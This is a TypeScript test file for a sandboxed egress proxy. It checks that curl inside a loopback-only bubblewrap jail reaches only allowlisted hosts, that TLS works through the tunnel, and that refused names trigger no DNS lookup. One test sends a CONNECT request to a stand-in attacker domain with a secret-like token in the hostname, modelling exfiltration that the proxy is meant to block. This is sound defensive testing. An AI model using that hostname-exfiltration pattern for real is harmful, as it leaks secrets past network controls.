// The design end to end: a bubblewrap jail with its own network namespace (only `lo`),
// the proxy's socket bound in, the bridge running inside, and real curl inside using it.
// And real TLS through the tunnel, with a certificate made by openssl for the test.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { parseHostRules } from '../../../src/net/host-rule.js';
import { startProxy } from '../../../src/net/proxy.js';
import { BRIDGE_SCRIPT, curl, startBridge, startFakeDns, startHttpUpstream, tempDir } from './fixtures.js';

// Runs inside the jail: starts the bridge (stdin is its lifeline), then curl three ways.
const DRIVER = `
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
const [httpPort] = process.argv.slice(2);
const bridge = spawn(process.execPath, ['/run/sp/bridge.mjs', '/run/sp/proxy.sock', '3128'], { stdio: ['pipe', 'pipe', 'inherit'] });
let ready = '';
await new Promise((resolve) => bridge.stdout.on('data', (d) => { ready += d; if (ready.includes('\\n')) resolve(); }));
const curl = (...args) => {
  const r = spawnSync('curl', ['-sS', '--max-time', '5', ...args], { encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
};
const result = {
  ready,
  viaProxy: curl('--proxy', 'http://127.0.0.1:3128', 'http://127.0.0.1:' + httpPort + '/from-the-jail'),
  direct: curl('--noproxy', '*', 'http://127.0.0.1:' + httpPort + '/direct'),
  refused: curl('--proxy', 'http://127.0.0.1:3128', 'http://example.com/'),
  links: readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean).join(' '),
};
bridge.stdin.end();
result.bridgeExit = await new Promise((resolve) => bridge.on('exit', resolve));
process.stdout.write(JSON.stringify(result));
`;

test('inside a bubblewrap jail with only loopback, curl reaches the allowed host only through bridge and proxy', async () => {
  const dir = tempDir();
  const http = await startHttpUpstream();
  const socketDir = join(dir.path, 'run');
  spawnSync('mkdir', ['-m', '700', socketDir]);
  const proxy = await startProxy({ socketPath: join(socketDir, 'proxy.sock'), policy: { allow: parseHostRules([`127.0.0.1:${http.port}`]) } });
  try {
    copyFileSync(BRIDGE_SCRIPT, join(socketDir, 'bridge.mjs'));
    writeFileSync(join(socketDir, 'driver.mjs'), DRIVER);
    const node = realpathSync(process.execPath);
    const args = [
      '--unshare-net', '--unshare-pid', '--die-with-parent', '--new-session',
      '--ro-bind', '/usr', '/usr',
      '--symlink', 'usr/bin', '/bin', '--symlink', 'usr/lib', '/lib', '--symlink', 'usr/sbin', '/sbin',
      ...(existsSync('/usr/lib64') ? ['--symlink', 'usr/lib64', '/lib64'] : []),
      '--ro-bind', '/etc', '/etc',
      '--proc', '/proc', '--dev', '/dev', '--tmpfs', '/tmp',
      ...(node.startsWith('/usr/') ? [] : ['--ro-bind', dirname(node), dirname(node)]),
      '--bind', socketDir, '/run/sp',
      '--', node, '/run/sp/driver.mjs', String(http.port),
    ];
    const child = spawn('bwrap', args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    const code = await new Promise((resolve) => child.on('close', resolve));
    assert.equal(code, 0, err);
    type Curl = { code: number; out: string; err: string };
    const r = JSON.parse(out) as { viaProxy: Curl; direct: Curl; refused: Curl; ready: string; links: string; bridgeExit: number };
    assert.equal(r.links, 'lo', 'the jail has no interface but loopback');
    assert.equal(r.ready, 'ready\n');
    assert.equal(r.viaProxy.out, 'upstream says hello to GET /from-the-jail\n', r.viaProxy.err);
    assert.notEqual(r.direct.code, 0, 'the host loopback is not the jail loopback');
    assert.match(r.refused.out, /example\.com:80 is not in the allowlist/);
    assert.equal(r.bridgeExit, 0);
    assert.deepEqual(http.seen.map((s) => s.url), ['/from-the-jail']);
    assert.equal(proxy.blocked()[0]?.host, 'example.com');
  } finally {
    await proxy.close();
    await http.close();
    dir.remove();
  }
});

test('real HTTPS through bridge and proxy: curl verifies the certificate of the allowed name', async () => {
  const dir = tempDir();
  const key = join(dir.path, 'key.pem');
  const cert = join(dir.path, 'cert.pem');
  const made = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=registry.test', '-addext', 'subjectAltName=DNS:registry.test'], { encoding: 'utf8' });
  assert.equal(made.status, 0, made.stderr);
  const https = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (req, res) => res.end(`tls hello ${req.url} sni=${(req.socket as { servername?: string }).servername}\n`));
  await new Promise<void>((resolve) => https.listen(0, '127.0.0.1', resolve));
  const port = (https.address() as AddressInfo).port;
  const dns = await startFakeDns({ 'registry.test': '127.0.0.1' });
  const proxy = await startProxy({ socketPath: join(dir.path, 'proxy.sock'), policy: { allow: parseHostRules([`registry.test:${port}`]) }, resolve: dns.resolver });
  const bridge = await startBridge(join(dir.path, 'proxy.sock'));
  try {
    const r = await curl(['--proxy', `http://127.0.0.1:${bridge.port}`, '--cacert', cert, `https://registry.test:${port}/react`]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'tls hello /react sni=registry.test\n');
    const c = proxy.contacted().find((h) => h.host === 'registry.test');
    assert.equal(c?.count, 1);
    assert.ok((c?.bytesIn ?? 0) > 500, 'the TLS handshake and response came back through the tunnel');
  } finally {
    bridge.child.stdin.end();
    await bridge.exited;
    await proxy.close();
    https.closeAllConnections();
    await new Promise((resolve) => https.close(resolve));
    await dns.close();
    dir.remove();
  }
});

// Runs in its own network namespace, where a fake DNS server on 127.0.0.1:53 is the
// system resolver: the proxy uses its default resolver (getaddrinfo), as in production.
const SYSTEM_DNS_DRIVER = (proxyModule: string, rulesModule: string, fixturesModule: string): string => `
import { createSocket } from 'node:dgram';
import { startProxy } from ${JSON.stringify(proxyModule)};
import { parseHostRules } from ${JSON.stringify(rulesModule)};
import { rawExchange } from ${JSON.stringify(fixturesModule)};
const queries = [];
const dns = createSocket('udp4');
dns.on('message', (msg, rinfo) => {
  let at = 12; const labels = [];
  while (msg[at]) { labels.push(msg.subarray(at + 1, at + 1 + msg[at]).toString('latin1')); at += 1 + msg[at]; }
  queries.push(labels.join('.'));
  const reply = Buffer.from(msg.subarray(0, at + 5));
  reply.writeUInt16BE(0x8183, 2);
  dns.send(reply, rinfo.port, rinfo.address);
});
await new Promise((r) => dns.bind(53, '127.0.0.1', r));
const proxy = await startProxy({ socketPath: process.argv[2], policy: { allow: parseHostRules(['allowed.test:443']) } });
const refused = await rawExchange(process.argv[2], 'CONNECT secret-token-1234.attacker.example:443 HTTP/1.1\\r\\n\\r\\n');
const refusedQueries = queries.length;
const allowed = await rawExchange(process.argv[2], 'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n');
await proxy.close();
dns.close();
process.stdout.write(JSON.stringify({ refused: refused.split('\\r\\n')[0], refusedQueries, allowed: allowed.split('\\r\\n')[0], queries }));
`;

test('with the system resolver, a refused name sends no DNS query at all', async () => {
  const dir = tempDir();
  try {
    const here = dirname(new URL(import.meta.url).pathname);
    writeFileSync(join(dir.path, 'resolv.conf'), 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
    writeFileSync(join(dir.path, 'driver.mjs'), SYSTEM_DNS_DRIVER(join(here, '../../../src/net/proxy.js'), join(here, '../../../src/net/host-rule.js'), join(here, 'fixtures.js')));
    const r = spawnSync('bwrap', ['--unshare-net', '--die-with-parent', '--ro-bind', '/', '/', '--bind', dir.path, dir.path, '--ro-bind', join(dir.path, 'resolv.conf'), '/etc/resolv.conf', '--', process.execPath, join(dir.path, 'driver.mjs'), join(dir.path, 'proxy.sock')], { encoding: 'utf8', timeout: 20_000 });
    assert.equal(r.status, 0, r.stderr);
    const out = JSON.parse(r.stdout) as { refused: string; refusedQueries: number; allowed: string; queries: string[] };
    assert.match(out.refused, /^HTTP\/1\.1 403 /);
    assert.equal(out.refusedQueries, 0, 'no query for the refused name');
    assert.match(out.allowed, /^HTTP\/1\.1 502 /, 'the allowed name was looked up and did not resolve');
    assert.ok(out.queries.length > 0 && out.queries.every((q) => q.startsWith('allowed.test')), `queries: ${out.queries.join(', ')}`);
  } finally {
    dir.remove();
  }
});
